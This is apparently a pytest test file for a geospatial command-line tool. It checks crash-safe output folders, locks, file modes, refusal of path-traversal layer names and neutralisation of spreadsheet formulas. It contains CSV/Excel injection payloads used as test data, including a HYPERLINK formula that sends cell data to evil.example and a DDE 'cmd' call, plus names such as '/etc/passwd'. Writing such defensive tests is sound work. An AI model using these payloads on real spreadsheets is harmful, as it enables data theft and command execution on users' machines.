"""Outputs under faults and hostile input: whole-or-absent folders, locks, file sets, modes,
names, spreadsheet injection, and one line (never a traceback) for bad input.

The kill tests run the command line in a child process and SIGKILL it, at named points of
the swap (the child replaces ``_atomic.checkpoint`` to kill itself there) and at random
moments; the oracle is a pair of reference folders made by uninterrupted runs: after any
kill the output folder must hash exactly like one of them.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import random
import re
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import geopandas as gpd
import networkx as nx
import numpy as np
import openpyxl
import pandas as pd
import pytest
import shapely
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from corridor_geo import _atomic, _outdir, cli, io
from corridor_geo._errors import InputError

OLD_ARGV = ["layout", "--format", "geojson", "--quiet"]
NEW_ARGV = ["layout", "--format", "shp", "--crs", "EPSG:4549", "--quiet"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
SRC = Path(__file__).resolve().parents[1] / "src"


# --------------------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------------------
def digest(folder: Path) -> dict[str, str]:
    """Hash of every file of a run (the marker aside; a .dbf without its date stamp)."""
    out = {}
    for p in sorted(folder.rglob("*")):
        if p.is_file() and p.name != _outdir.MARKER:
            data = p.read_bytes()
            if p.suffix == ".dbf":
                data = data[:1] + data[4:]
            out[p.relative_to(folder).as_posix()] = hashlib.sha256(data).hexdigest()
    return out


def run_cli(argv: list[str]) -> int:
    return cli.main(argv)


def child_env() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([str(SRC), env.get("PYTHONPATH", "")])
    return env


KILL_AT = r"""
import json, os, signal, sys
from corridor_geo import _atomic, _outdir, cli
step, nth, exchange, argv = json.loads(sys.argv[1])
if not exchange:
    _outdir.exchange = lambda a, b: False
seen = 0
def checkpoint(name):
    global seen
    if name == step:
        seen += 1
        if seen == nth:
            os.kill(os.getpid(), signal.SIGKILL)
_atomic.checkpoint = checkpoint
sys.exit(cli.main(argv))
"""

LOOP = r"""
import json, sys
from corridor_geo import cli
runs = json.loads(sys.argv[1])
print("ready", flush=True)
i = 0
while True:
    cli.main(runs[i % 2])
    i += 1
"""


def kill_at(step: str, nth: int, argv: list[str], *, exchange: bool = True) -> int:
    proc = subprocess.run(
        [sys.executable, "-c", KILL_AT, json.dumps([step, nth, exchange, argv])],
        env=child_env(),
        capture_output=True,
        text=True,
        timeout=120,
    )
    return proc.returncode


@pytest.fixture(scope="module")
def references(tmp_path_factory):
    base = tmp_path_factory.mktemp("references")
    assert run_cli([*OLD_ARGV, "--out", str(base / "old")]) == 0
    assert run_cli([*NEW_ARGV, "--out", str(base / "new")]) == 0
    old, new = digest(base / "old"), digest(base / "new")
    shared = {n for n in set(old) & set(new) if n.endswith((".qml", ".sld"))}  # same styles
    assert old and new and old != new and not set(old) & set(new) - {"validation.csv"} - shared
    return base, old, new


def fresh_old(references, parent: Path) -> Path:
    base, _, _ = references
    target = parent / "out"
    shutil.copytree(base / "old", target)
    return target


def leftovers(parent: Path, target: Path) -> list[str]:
    return sorted(p.name for p in parent.iterdir() if p != target)


# --------------------------------------------------------------------------------------
# whole-or-absent output folders
# --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("step", "nth", "exchange", "expect"),
    [
        ("file set: a new part moved in", 7, True, "old"),  # mid-write, in the staging folder
        ("output folder: complete, not yet swapped in", 1, True, "old"),
        ("output folder: swapped in, old run not yet removed", 1, True, "new"),
        ("output folder: old run moved aside", 1, False, "absent"),  # no renameat2
        ("output folder: swapped in, old run not yet removed", 1, False, "new"),
    ],
)
def test_a_run_killed_at_each_step_leaves_a_whole_run(
    references, tmp_path, step, nth, exchange, expect
):
    _, old, new = references
    target = fresh_old(references, tmp_path)
    code = kill_at(step, nth, [*NEW_ARGV, "--out", str(target)], exchange=exchange)
    assert code == -signal.SIGKILL
    if expect == "absent":
        # Only without an atomic exchange, and only until the next run puts it back.
        assert not target.exists()
        with pytest.raises(RuntimeError), _outdir.output_folder(target):
            raise RuntimeError("stop after the recovery")
        assert digest(target) == old
    else:
        assert digest(target) == (old if expect == "old" else new)
        assert _outdir.is_corridor_geo_output(target)
    assert leftovers(tmp_path, target) or expect == "absent"  # the killed run's debris
    # The next run cleans up after the killed one and completes.
    assert run_cli([*NEW_ARGV, "--out", str(target)]) == 0
    assert digest(target) == new
    assert leftovers(tmp_path, target) == []


def test_runs_killed_at_random_moments_leave_a_whole_run(references, tmp_path):
    _, old, new = references
    rng = random.Random(20261201)
    for i in range(4):
        parent = tmp_path / f"k{i}"
        parent.mkdir()
        target = fresh_old(references, parent)
        runs = [[*NEW_ARGV, "--out", str(target)], [*OLD_ARGV, "--out", str(target)]]
        proc = subprocess.Popen(
            [sys.executable, "-c", LOOP, json.dumps(runs)],
            env=child_env(),
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            text=True,
        )
        try:
            assert proc.stdout.readline().strip() == "ready"
            time.sleep(rng.uniform(0.05, 2.5))
        finally:
            proc.send_signal(signal.SIGKILL)
            proc.wait(timeout=30)
            proc.stdout.close()
        got = digest(target)
        assert got in (old, new), f"kill {i}: a mixed folder {sorted(got)}"
        assert run_cli([*OLD_ARGV, "--out", str(target)]) == 0
        assert digest(target) == old and leftovers(parent, target) == []


def test_a_second_run_is_refused_and_a_dead_runs_lock_taken_over(tmp_path, capsys, caplog):
    target = tmp_path / "out"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys\nfrom corridor_geo import _outdir\n"
            f"with _outdir.output_folder({str(target)!r}) as f:\n"
            "    (f.path / 'partial.csv').write_text('x')\n"
            "    print('locked', flush=True)\n"
            "    sys.stdin.read()\n",
        ],
        env=child_env(),
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "locked"
        assert run_cli([*OLD_ARGV, "--out", str(target)]) == 2
        err = capsys.readouterr().err
        assert f"another corridor_geo run (process {holder.pid} on" in err
        assert len(err.strip().splitlines()) == 1
        assert not target.exists()  # nothing written by the refused run
    finally:
        holder.send_signal(signal.SIGKILL)
        holder.wait(timeout=30)
        holder.stdin.close()
        holder.stdout.close()
    debris = leftovers(tmp_path, target)
    assert any(n.endswith(_outdir.LOCK_SUFFIX) for n in debris)
    assert any(f".{_outdir.STAGE}-" in n for n in debris)
    with caplog.at_level("WARNING", logger="corridor_geo"):
        assert run_cli([*OLD_ARGV, "--out", str(target)]) == 0
    assert f"left by process {holder.pid}" in caplog.text and "no longer running" in caplog.text
    assert "left by a corridor_geo run that was killed" in caplog.text
    assert leftovers(tmp_path, target) == [] and not (target / "partial.csv").exists()


def test_the_same_folder_through_two_spellings_shares_one_lock(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    with (
        _outdir.output_folder(tmp_path / "link" / "out"),
        pytest.raises(InputError, match="another corridor_geo run"),
        _outdir.output_folder(tmp_path / "real" / "out"),
    ):
        pass  # pragma: no cover


def test_out_that_is_a_file_empty_or_the_current_folder_is_refused(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    Path("notes.txt").write_text("mine", encoding="utf-8")
    for argv, message in [
        ([*OLD_ARGV, "--out", "notes.txt"], "is a file, not a folder"),
        ([*OLD_ARGV, "--out", ""], "--out is empty"),
        ([*OLD_ARGV, "--out", "   "], "--out is empty"),
        ([*OLD_ARGV, "--out", "."], "is the current folder or contains it"),
        ([*OLD_ARGV, "--out", ".."], "is the current folder or contains it"),
        ([*OLD_ARGV, "--out", "notes.txt/sub"], "is a file, not a folder"),
    ]:
        assert run_cli(argv) == 2, argv
        err = capsys.readouterr().err
        assert message in err and "Errno" not in err and len(err.strip().splitlines()) == 1
    assert sorted(os.listdir(tmp_path)) == ["notes.txt"]
    assert Path("notes.txt").read_text(encoding="utf-8") == "mine"


def test_a_foreign_folder_is_refused_an_empty_or_earlier_one_replaced(tmp_path, capsys):
    foreign = tmp_path / "mine"
    foreign.mkdir()
    (foreign / "thesis.docx").write_bytes(b"years of work")
    assert run_cli([*OLD_ARGV, "--out", str(foreign)]) == 2
    assert "was not written by corridor_geo" in capsys.readouterr().err
    assert os.listdir(foreign) == ["thesis.docx"]
    from corridor_geo.report import build_report

    with pytest.raises(InputError, match="was not written by corridor_geo"):
        build_report(foreign)
    empty = tmp_path / "empty"
    empty.mkdir()
    assert run_cli([*NEW_ARGV, "--out", str(empty)]) == 0
    assert (empty / "layers" / "axis.shp").is_file()
    # An earlier run's folder is replaced as a whole: nothing of the shp run survives.
    assert run_cli([*OLD_ARGV, "--out", str(empty)]) == 0
    assert not (empty / "layers" / "axis.shp").exists()
    assert (empty / "layers" / "axis.geojson").is_file()


def test_a_failed_run_leaves_the_previous_folder_untouched(references, tmp_path, capsys):
    _, old, _ = references
    target = fresh_old(references, tmp_path)
    assert run_cli([*NEW_ARGV, "--crs", "EPSG:999999", "--out", str(target)]) == 2
    assert "unknown CRS" in capsys.readouterr().err
    assert digest(target) == old and leftovers(tmp_path, target) == []


# --------------------------------------------------------------------------------------
# stale temporary files, Shapefile sets, modes
# --------------------------------------------------------------------------------------
def dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def test_stale_temporary_files_are_removed_by_the_next_write(tmp_path):
    host = _atomic.host_tag()
    stale = tmp_path / f".t.cgtmp-{host}-{dead_pid()}-0123abcd.csv"
    stale.write_text("half a file")
    mine = tmp_path / f".t.cgtmp-{host}-{os.getpid()}-0123abcd.csv"
    mine.write_text("being written by this process")
    elsewhere = tmp_path / f".t.cgtmp-00000000-{dead_pid()}-0123abcd.csv"
    elsewhere.write_text("another host's: cannot tell if it runs")
    user = tmp_path / ".t.backup.csv"
    user.write_text("the user's")
    io.write_table_atomic(pd.DataFrame({"a": [1]}), tmp_path / "t.csv")
    assert not stale.exists()
    assert mine.exists() and elsewhere.exists() and user.exists()


def shp_frame(values: list[str]) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"label": values, "n": np.arange(len(values))},
        geometry=[shapely.Point(120.4 + i / 100, 36.1) for i in range(len(values))],
        crs="EPSG:4326",
    )


def parts(folder: Path) -> dict[str, bytes]:
    """Every entry of a folder: files with their bytes, folders (debris) as None."""
    return {p.name: p.read_bytes() if p.is_file() else None for p in sorted(folder.iterdir())}


def test_a_shapefile_set_is_replaced_whole_or_not_at_all(tmp_path, monkeypatch):
    io.write_layers({"zones": shp_frame(["old"] * 3)}, tmp_path, fmt="shp")
    (tmp_path / "zones.qix").write_bytes(b"spatial index of the old set")
    before = parts(tmp_path)
    assert {"zones.shp", "zones.shx", "zones.dbf", "zones.prj", "zones.cpg"} <= set(before)
    for nth in (1, 2, 4):  # a failure after the 1st, 2nd and 4th new part moved in
        seen = []

        def fail(name, nth=nth, seen=seen):
            if name == "file set: a new part moved in":
                seen.append(name)
                if len(seen) == nth:
                    raise OSError(28, "No space left on device")

        monkeypatch.setattr(_atomic, "checkpoint", fail)
        with pytest.raises(OSError, match="No space left"):
            io.write_layers({"zones": shp_frame(["new"] * 5)}, tmp_path, fmt="shp")
        assert parts(tmp_path) == before, nth
    monkeypatch.undo()
    io.write_layers({"zones": shp_frame(["new"] * 5)}, tmp_path, fmt="shp")
    assert gpd.read_file(tmp_path / "zones.shp")["label"].tolist() == ["new"] * 5
    assert not (tmp_path / "zones.qix").exists()  # the old index went with the old set
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_a_shapefile_swap_killed_midway_is_rolled_back_by_the_next_write(tmp_path):
    io.write_layers({"zones": shp_frame(["old"] * 3)}, tmp_path, fmt="shp")
    before = parts(tmp_path)
    script = (
        "import os, signal\n"
        "import geopandas as gpd, shapely\n"
        "from corridor_geo import _atomic, io\n"
        "seen = []\n"
        "def kill(name):\n"
        "    if name == 'file set: a new part moved in':\n"
        "        seen.append(name)\n"
        "        if len(seen) == 2:\n"
        "            os.kill(os.getpid(), signal.SIGKILL)\n"
        "_atomic.checkpoint = kill\n"
        "f = gpd.GeoDataFrame({'label': ['new']}, geometry=[shapely.Point(120, 36)], crs=4326)\n"
        f"io.write_layers({{'zones': f}}, {str(tmp_path)!r}, fmt='shp')\n"
    )
    proc = subprocess.run([sys.executable, "-c", script], env=child_env(), timeout=120)
    assert proc.returncode == -signal.SIGKILL
    assert parts(tmp_path) != before  # a new .shp beside an old .dbf, until...
    _atomic.clean_stale(tmp_path)  # ...the next write into the folder rolls it back
    assert parts(tmp_path) == before
    assert gpd.read_file(tmp_path / "zones.shp")["label"].tolist() == ["old"] * 3


@pytest.fixture
def umask_027():
    previous = os.umask(0o027)
    try:
        yield
    finally:
        os.umask(previous)


def test_every_written_file_gets_the_mode_open_would_give(tmp_path, umask_027):
    from affine import Affine

    from corridor_geo.network import graph_to_graphml
    from corridor_geo.raster import Raster, write_geotiff

    frame = shp_frame(["a", "b"])
    table = pd.DataFrame({"a": [1, 2]})
    G = nx.MultiDiGraph(crs="EPSG:4549")
    G.add_edge(1, 2, length=10.0)
    raster = Raster(np.ones((2, 2)), Affine(1, 0, 5e5, 0, -1, 4e6), "EPSG:4549")
    written = [
        io.write_table_atomic(table, tmp_path / "t.csv"),
        io.write_table_atomic(table, tmp_path / "t.xlsx"),
        *io.write_layers({"p": frame, "q": frame}, tmp_path / "l.gpkg"),
        *io.write_layers({"p": frame}, tmp_path / "gj", fmt="geojson"),
        *io.write_layers({"p": frame}, tmp_path / "pq", fmt="parquet"),
        *io.write_layers({"p": frame}, tmp_path / "csv", fmt="csv"),
        io.write_text_atomic("x", tmp_path / "x.txt"),
        io.write_bytes_atomic(b"x", tmp_path / "x.bin"),
        graph_to_graphml(G, tmp_path / "g.graphml"),
        write_geotiff(raster, tmp_path / "r.tif"),
    ]
    io.write_layers({"p": frame}, tmp_path / "shp", fmt="shp")
    written += list((tmp_path / "shp").iterdir())
    out = tmp_path / "run"
    assert run_cli([*NEW_ARGV, "--out", str(out)]) == 0
    written += [p for p in out.rglob("*") if p.is_file()]
    modes = {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in written}
    assert set(modes.values()) == {oct(0o640)}, modes
    folders = [out, out / "layers", tmp_path / "gj", tmp_path / "shp"]
    assert {oct(stat.S_IMODE(p.stat().st_mode)) for p in folders} == {oct(0o750)}


# --------------------------------------------------------------------------------------
# layer and file names
# --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name",
    [
        "../../x",
        "../x",
        "..",
        ".",
        "a/b",
        "a\\b",
        "/etc/passwd",
        "x\0y",
        "tab\there",
        "CON",
        "nul.txt",
        "com1",
        "LPT9",
        "a" * 201,
        "名" * 67,  # 201 bytes in UTF-8
        ".hidden",
        "dot.",
        "space ",
        "a:b",
        'quote"',
        "",
        "  ",
    ],
)
def test_names_that_are_not_plain_file_names_are_refused(tmp_path, name):
    folder = tmp_path / "a" / "b" / "layers"
    for fmt in ("geojson", "shp", "csv", "parquet"):
        with pytest.raises(InputError, match="layer name"):
            io.write_layers({name: shp_frame(["x"])}, folder, fmt=fmt)
    assert not [p for p in tmp_path.rglob("*") if p.is_file()]


def test_names_differing_only_in_case_are_refused(tmp_path):
    with pytest.raises(InputError, match="differ only in case"):
        io.write_layers({"Axis": shp_frame(["x"]), "axis": shp_frame(["y"])}, tmp_path, fmt="csv")


def test_a_geopackage_layer_name_never_leads_outside_the_file(tmp_path):
    path = tmp_path / "d" / "l.gpkg"
    for name in ("../../x", "a/b", "..\\x", "/etc/x"):
        try:
            io.write_layers({name: shp_frame(["x"])}, path)
            refused = ""
        except InputError as exc:
            refused = str(exc)
        if refused:
            assert "layer name" in refused
        else:
            assert gpd.read_file(path, layer=name)["label"].tolist() == ["x"]
        assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) in (
            [],
            ["d"],
            ["d", "d/l.gpkg"],
        )
    with pytest.raises(InputError, match="control character"):
        io.write_layers({"a\0b": shp_frame(["x"])}, path)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=st.text(min_size=1, max_size=40))
def test_any_layer_name_is_refused_or_written_inside_the_folder(tmp_path, name):
    folder = tmp_path / "case" / "layers"
    try:
        written = io.write_layers({name: shp_frame(["x"])}, folder, fmt="csv")
    except InputError:
        assert not (tmp_path / "case").exists()
    else:
        assert [p.resolve().parent for p in written] == [folder.resolve()]
        assert written[0].name == f"{name}.csv"
        outside = [p for p in tmp_path.rglob("*") if p.is_file() and folder not in p.parents]
        assert outside == []
    shutil.rmtree(tmp_path / "case", ignore_errors=True)


# --------------------------------------------------------------------------------------
# spreadsheet injection
# --------------------------------------------------------------------------------------
def payload_table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": PAYLOADS,
            "=HEADER()": ["plain"] * len(PAYLOADS),
            "value": [-2.5, -2, 0, 1.5, 2, 3],
            "code": ["053288880001", "-", "'=already quoted", "a=b", " =1", "市南区"],
            "count": [-3, -1, 0, 1, 2, 3],
        }
    )


def csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_export_neutralises_formulas_and_keeps_numbers(tmp_path):
    table = payload_table()
    rows = csv_rows(io.write_table_atomic(table, tmp_path / "t.csv"))
    assert rows[0] == ["name", "'=HEADER()", "value", "code", "count"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[2] for r in rows[1:]] == ["-2.5", "-2.0", "0.0", "1.5", "2.0", "3.0"]
    assert [r[4] for r in rows[1:]] == ["-3", "-1", "0", "1", "2", "3"]  # numbers as is
    assert [r[3] for r in rows[1:]] == [
        "053288880001",
        "'-",
        "'=already quoted",
        "a=b",
        " =1",
        "市南区",
    ]
    # A carriage return inside a cell must not start a new row (and a new cell with it).
    rows = csv_rows(
        io.write_table_atomic(pd.DataFrame({"a": ["x\r=1+1", "y"]}), tmp_path / "r.csv")
    )
    assert rows == [["a"], ["x\r=1+1"], ["y"]]
    kept = csv_rows(io.write_table_atomic(table, tmp_path / "k.csv", neutralize_formulas=False))
    assert [r[0] for r in kept[1:]] == PAYLOADS and kept[0][1] == "=HEADER()"
    # The CSV format of write_layers neutralises too.
    (written,) = io.write_layers(
        {"pts": gpd.GeoDataFrame(table, geometry=shp_frame(["x"] * 6).geometry, crs=4326)},
        tmp_path / "layers",
        fmt="csv",
    )
    assert [r[0] for r in csv_rows(written)[1:]] == ["'" + p for p in PAYLOADS]


def test_xlsx_never_stores_a_live_formula(tmp_path):
    table = payload_table()
    for neutralize in (True, False):
        path = io.write_table_atomic(
            table, tmp_path / f"t{neutralize}.xlsx", neutralize_formulas=neutralize
        )
        sheet = openpyxl.load_workbook(path).active
        cells = [c for row in sheet.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        names = [sheet.cell(row=i + 2, column=1).value for i in range(len(PAYLOADS))]
        expected = ["'" + p for p in PAYLOADS] if neutralize else PAYLOADS
        # XML turns a carriage return into a newline on reading; the rest is verbatim
        assert [n.replace("\n", "\r") for n in names] == expected
        values = [sheet.cell(row=i + 2, column=3).value for i in range(len(PAYLOADS))]
        assert values == [-2.5, -2, 0, 1.5, 2, 3]
        assert all(sheet.cell(row=i + 2, column=3).data_type == "n" for i in range(6))


def test_gis_formats_keep_the_text_verbatim(tmp_path):
    table = payload_table()
    frame = gpd.GeoDataFrame(table, geometry=shp_frame(["x"] * 6).geometry, crs="EPSG:4326")
    for fmt in ("gpkg", "geojson", "parquet"):
        path = tmp_path / f"pts.{fmt}"
        io.write_vector_atomic(frame, path)
        back = (
            gpd.read_parquet(path)
            if fmt == "parquet"
            else gpd.read_file(path, **({"layer": "pts"} if fmt == "gpkg" else {}))
        )
        assert back["name"].tolist() == PAYLOADS, fmt
        assert back["=HEADER()"].tolist() == ["plain"] * 6
        assert back["code"].tolist() == table["code"].tolist()


DANGER_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30
) | st.sampled_from(DANGEROUS).flatmap(lambda c: st.text(max_size=10).map(lambda t: c + t))


@settings(max_examples=300, deadline=None)
@given(text=DANGER_TEXT)
def test_the_neutraliser_only_ever_adds_one_quote(text):
    out = io.neutralize_formula(text)
    added = text.startswith(DANGEROUS)
    assert out == ("'" + text if added else text)
    assert out[1:] == text if added else out == text
    assert not out.startswith(DANGEROUS)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(cells=st.lists(DANGER_TEXT, min_size=1, max_size=8))
def test_any_text_round_trips_through_a_csv_export(tmp_path, cells):
    path = io.write_table_atomic(
        pd.DataFrame({"text": cells, "number": -np.arange(len(cells)) - 0.5}), tmp_path / "t.csv"
    )
    rows = csv_rows(path)[1:]
    assert len(rows) == len(cells)
    for (text_out, number_out), text_in, i in zip(rows, cells, range(len(cells))):
        assert not text_out.startswith(DANGEROUS)
        assert (text_out[1:] if text_in.startswith(DANGEROUS) else text_out) == text_in
        assert float(number_out) == -i - 0.5 and number_out.startswith("-")


def test_the_command_line_neutralises_unless_told_to_keep(tmp_path, layout):
    src = tmp_path / "labs.csv"
    anchors = layout.circles.iloc[:2]
    pd.DataFrame(
        {
            "name": [PAYLOADS[0], "+cmd|' /C calc'!A0"],
            "lon": anchors["anchor_lon"].to_numpy(),
            "lat": anchors["anchor_lat"].to_numpy(),
        }
    ).to_csv(src, index=False)
    argv = ["access", "--resources", str(src), "--datum", "WGS84", "--quiet"]
    assert run_cli([*argv, "--out", str(tmp_path / "a")]) in (0, 1)
    rows = csv_rows(tmp_path / "a" / "access.csv")
    col = rows[0].index("name")
    assert [r[col] for r in rows[1:]] == ["'" + PAYLOADS[0], "'+cmd|' /C calc'!A0"]
    assert run_cli([*argv, "--out", str(tmp_path / "b"), "--keep-formulas"]) in (0, 1)
    rows = csv_rows(tmp_path / "b" / "access.csv")
    assert [r[col] for r in rows[1:]] == [PAYLOADS[0], "+cmd|' /C calc'!A0"]


# --------------------------------------------------------------------------------------
# one line, never a traceback
# --------------------------------------------------------------------------------------
@pytest.fixture
def bad_files(tmp_path):
    data = Path(__file__).parent / "data"
    (tmp_path / "empty.csv").write_bytes(b"")
    (tmp_path / "ragged.csv").write_text("a,b\n1,2\n3,4,5\n", encoding="utf-8")
    (tmp_path / "pts.csv").write_text("name,lon,lat\nx,120.45,36.12\n", encoding="utf-8")
    (tmp_path / "binary.csv").write_bytes(bytes(range(256)) * 8)
    (tmp_path / "folder.csv").mkdir()
    graph = (data / "osmnx_small.graphml").read_text(encoding="utf-8")
    text_tt = re.sub(r'(<data key="d16">)[^<]*(</data>)', r"\1fast\2", graph)
    assert text_tt != graph
    (tmp_path / "text_tt.graphml").write_text(text_tt, encoding="utf-8")
    (tmp_path / "not.graphml").write_text("not xml", encoding="utf-8")
    return tmp_path


CSV_ARGS = ["--datum", "GCJ02"]
WGS = ["--datum", "WGS84"]
BAD_INPUT = [
    ["share", "pts.csv", *CSV_ARGS, "--encoding", "no-such-codec", "--out", "o"],
    ["share", "empty.csv", *CSV_ARGS, "--out", "o"],
    ["share", "ragged.csv", *CSV_ARGS, "--out", "o"],
    ["share", "binary.csv", *CSV_ARGS, "--out", "o"],
    ["share", "folder.csv", *CSV_ARGS, "--out", "o"],
    ["density", "pts.csv", *CSV_ARGS, "--bandwidth", "nan", "--out", "o"],
    ["density", "pts.csv", *CSV_ARGS, "--bandwidth", "inf", "--out", "o"],
    ["density", "pts.csv", *CSV_ARGS, "--cell-size", "-1", "--out", "o"],
    ["density", "pts.csv", *CSV_ARGS, "--grid", "hex", "--resolution", "99", "--out", "o"],
    ["coverage", "--circle-kind", "环大学", "--radius", "nan", "--out", "o"],
    ["coverage", "--facilities", "empty.csv", "--out", "o"],
    ["layout", "--out", "o", "--replace", "cities=pts.csv"],
    ["layout", "--out", "o", "--replace", "cities=binary.csv"],
    ["access", "--resources", "pts.csv", "--datum", "WGS84", "--isochrones", "nan", "--out", "o"],
    ["access", "--resources", "pts.csv", "--datum", "WGS84", "--isochrones", "inf", "--out", "o"],
    ["access", "--resources", "pts.csv", "--datum", "WGS84", "--max-snap", "nan", "--out", "o"],
    ["access", "--resources", "pts.csv", *WGS, "--graphml", "text_tt.graphml", "--out", "o"],
    ["access", "--resources", "pts.csv", *WGS, "--graphml", "not.graphml", "--out", "o"],
    ["access", "--resources", "empty.csv", "--datum", "WGS84", "--out", "o"],
    ["report", "--graphml", "text_tt.graphml", "--out", "o", "--quiet"],  # accessibility only
    ["report", "--resources", "ragged.csv", "--datum", "GCJ02", "--out", "o", "--quiet"],
    ["layout", "--out", "pts.csv"],
    ["share", "pts.csv", *CSV_ARGS, "--out", ""],
]


@pytest.mark.parametrize("argv", BAD_INPUT, ids=lambda a: " ".join(a)[:60])
def test_bad_input_gives_one_line_and_exit_2(bad_files, monkeypatch, capsys, argv):
    from corridor_geo import report

    steps = report._analysis_steps
    monkeypatch.setattr(
        report,
        "_analysis_steps",
        lambda *a, **k: [s for s in steps(*a, **k) if s[0] == "access"],
    )
    monkeypatch.chdir(bad_files)
    before = sorted(os.listdir(bad_files))
    assert run_cli(argv) == 2
    err = capsys.readouterr().err
    errors = [line for line in err.splitlines() if line.startswith("corridor-geo: error: ")]
    assert len(errors) == 1 and err.strip().splitlines()[-1] == errors[0], err
    assert "Traceback" not in err
    assert sorted(os.listdir(bad_files)) == before  # nothing written, no debris


def test_debug_shows_the_traceback(bad_files, monkeypatch, capsys):
    monkeypatch.chdir(bad_files)
    argv = ["share", "pts.csv", *CSV_ARGS, "--encoding", "no-such-codec", "--out", "o"]
    for debug in (["--debug", *argv], [*argv, "--debug"]):
        assert run_cli(debug) == 2
        err = capsys.readouterr().err
        assert "Traceback (most recent call last)" in err
        assert err.strip().splitlines()[-1].startswith("corridor-geo: error: ")


def test_an_unexpected_error_is_one_line_and_exit_3(monkeypatch, tmp_path, capsys):
    from corridor_geo.cli import layout as layout_cmd

    def broken(args):
        raise TypeError("unsupported operand type(s) for +: 'int' and 'str'")

    monkeypatch.setattr(layout_cmd, "run", broken)
    assert run_cli(["layout", "--out", str(tmp_path / "o")]) == 3
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "unexpected TypeError" in err[0] and "--debug" in err[0]


def test_report_exits_1_when_layout_checks_fail(layout, tmp_path, monkeypatch, capsys):
    from corridor_geo import report

    # Only the layout and provenance sections: the analyses are tested elsewhere.
    monkeypatch.setattr(report, "_analysis_steps", lambda *a, **k: [])
    # 300 m inside the bundled cities: still in their districts, but too small by far.
    shrunk = layout.cities[["key", "geometry"]].to_crs(4549)
    shrunk["geometry"] = shrunk.geometry.buffer(-300)
    shrunk = shrunk.to_crs(4326)
    path = tmp_path / "cities_small.gpkg"
    shrunk.to_file(path)
    argv = ["--replace", f"cities={path}"]
    assert run_cli(["layout", "--out", str(tmp_path / "l"), "--quiet", *argv]) == 1
    capsys.readouterr()
    assert run_cli(["report", "--out", str(tmp_path / "r"), "--quiet", *argv]) == 1
    err = capsys.readouterr().err
    assert "layout check(s) failed" in err and "area" in err
    assert run_cli(["report", "--out", str(tmp_path / "ok"), "--quiet"]) == 0
    rep = report.build_report(tmp_path / "api", layout=layout)
    assert rep.failed_checks == []
    assert rep.html_path == (tmp_path / "api" / "report.html").resolve()
    assert rep.html_path.is_file() and rep.gpkg_path.is_file()
    assert all(
        p.is_file() and p.parent.parent == rep.html_path.parent for p in rep.tables.values()
    )
